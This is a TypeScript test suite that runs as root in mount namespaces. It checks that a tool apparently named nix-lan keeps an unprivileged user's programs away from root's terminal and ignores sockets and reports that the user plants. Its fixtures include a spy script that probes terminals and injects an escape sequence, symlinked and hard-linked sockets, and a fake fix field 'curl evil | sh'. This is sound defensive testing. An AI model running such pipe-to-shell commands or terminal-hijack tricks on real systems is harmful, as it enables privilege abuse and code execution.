// What root's commands leave to a user's programs: nothing of root's terminal. In a mount namespace
// with an /etc of its own, in which `nobody` has the configuration's queue and session, and a nix
// of their own that looks around. With this Node, whatever the runtime under test is (launcher.test.ts):
// once is enough.
import { spawn, spawnSync } from 'node:child_process'
import { chmodSync, chownSync, cpSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { needs } from '../lib/needs.ts'

const TMP = mkdtempSync(join(tmpdir(), 'nix-lan-as-root-'))
chmodSync(TMP, 0o755)
process.on('exit', () => rmSync(TMP, { recursive: true, force: true }))
// Where nobody can read them: the checkout may be in a folder that is somebody's alone.
const DIST = join(TMP, 'dist')
cpSync(resolve('dist'), DIST, { recursive: true })
cpSync(process.execPath, join(TMP, 'node'))
const HOME = join(TMP, 'a home')
const NOTES = join(TMP, 'notes')
mkdirSync(join(HOME, '.nix-profile/bin'), { recursive: true })
writeFileSync(NOTES, '')
chmodSync(NOTES, 0o666)

/** Whether it may type into a terminal, and which terminals it, or who started it, has open. */
const SPY = `#!/bin/sh
echo "started by $(id -u)" >>'${NOTES}'
if (: </dev/tty) 2>/dev/null; then echo 'has a terminal of its own' >>'${NOTES}'; fi
ls -l /proc/self/fd /proc/$PPID/fd 2>/dev/null | grep -o '/dev/pts/.*' >>'${NOTES}'
printf 'warning: \\033]0;title\\007 of mine\\n' >&2
exit 1
`
const nix = join(HOME, '.nix-profile/bin/nix')
writeFileSync(nix, SPY)
chmodSync(nix, 0o755)

const test = needs(suite('as root'), 'root', 'unshare', 'runuser', 'script')

/** Runs the doctor as root, on a terminal, where `nobody` has the queue. */
function doctor(): string {
  const world = `set -e
mkdir -p ${TMP}/etc/nix-lan ${TMP}/etc/pam.d; cp -L /etc/passwd /etc/group ${TMP}/etc
for kind in auth account session; do echo "$kind sufficient pam_permit.so"; done >${TMP}/etc/pam.d/runuser
sed -i 's#^nobody:.*#nobody:x:65534:65534:nobody:${HOME}:/bin/sh#' ${TMP}/etc/passwd
printf 'user = "nobody"\\n[cache.rpi]\\nhost = "127.0.0.1"\\n' >${TMP}/etc/nix-lan/config.toml
mount --bind ${TMP}/etc /etc
cd /; PATH=${TMP}:$PATH script -qec '${DIST}/nix-lan doctor --offline' /dev/null </dev/null`
  const done = spawnSync('unshare', ['--mount', '--propagation', 'private', 'sh', '-c', world], { encoding: 'utf8', timeout: 120_000 })
  return done.stdout + done.stderr
}

test('the doctor gives the user’s programs no hold on root’s terminal', () => {
  const said = doctor()
  const notes = readFileSync(NOTES, 'utf8').split('\n')
  assert.ok(notes.includes('started by 65534'), said)
  assert.equal([...new Set(notes)], ['started by 65534', ''])
  assert.match(said, /this machine:/)
  assert.match(said, /nobody's word: /)
})

test('what a user’s own node says is no report of root’s', () => {
  const lie = { check: 'hook', state: 'failed', found: 'x', fix: 'curl evil | sh' }
  for (const report of ['[]', JSON.stringify([lie]), 'all is well']) {
    for (const name of ['node', 'deno', 'bun'])
      writeFileSync(join(HOME, '.nix-profile/bin', name), `#!/bin/sh\necho '${report}'\n`, { mode: 0o755 })
    const said = doctor()
    assert.match(
      said,
      /nix-lan doctor: nobody's part of the doctor (says nothing about "configuration"|gave no report \(exit 0\): log in as nobody)/,
      said,
    )
    assert.not.match(said, /evil|all is well/)
  }
})

/** Runs the commands in a mount namespace with an /etc and a /run/user of its own, as root. */
function inWorld(script: string): Promise<string> {
  const world = `set -e
mkdir -p ${TMP}/etc/nix-lan; cp -L /etc/passwd /etc/group ${TMP}/etc
printf 'user = "nobody"\\n[cache.rpi]\\nhost = "127.0.0.1"\\n' >${TMP}/etc/nix-lan/config.toml
mount --bind ${TMP}/etc /etc; mount --bind ${TMP}/run /run/user
cd /; export PATH=${TMP}:$PATH; set +e
${script}`
  const child = spawn('unshare', ['--mount', '--propagation', 'private', 'sh', '-c', world], {
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 300_000,
  })
  let text = ''
  for (const stream of [child.stdout, child.stderr]) stream.setEncoding('utf8').on('data', (more: string) => (text += more))
  return new Promise((done) => child.on('close', () => done(text)))
}

test('root connects to nothing that a user’s socket links to, and to no socket of somebody else’s', async () => {
  const [uid, folder, secret] = [65534, join(TMP, 'run/65534/nix-lan'), join(TMP, 'secret.sock')]
  mkdirSync(folder, { recursive: true })
  for (const path of [join(TMP, 'run/65534'), folder]) chownSync(path, uid, uid)
  let knocks = 0
  const server = createServer((socket) => {
    knocks += 1
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(secret, done))
  chmodSync(secret, 0o600)
  const ask = `${DIST}/nix-lan-available --usable; ${DIST}/nix-lan status; ${DIST}/nix-lan-run --explain true`
  symlinkSync(secret, join(folder, 'rpi.sock'))
  const linked = await inWorld(ask)
  assert.is(linked.match(/rpi\.sock is not a socket of the user's/g)?.length, 3, linked)
  rmSync(join(folder, 'rpi.sock'))
  linkSync(secret, join(folder, 'rpi.sock'))
  const planted = await inWorld(ask)
  assert.is(planted.match(/rpi\.sock is not a socket of the user's/g)?.length, 3, planted)
  assert.is(knocks, 0)
  // The user's own is asked.
  chownSync(secret, uid, uid)
  await inWorld(ask)
  assert.is(knocks, 3)
  await new Promise((done) => server.close(done))
})

if (process.env.NIX_LAN_TEST_RUNTIME === undefined) test.run()
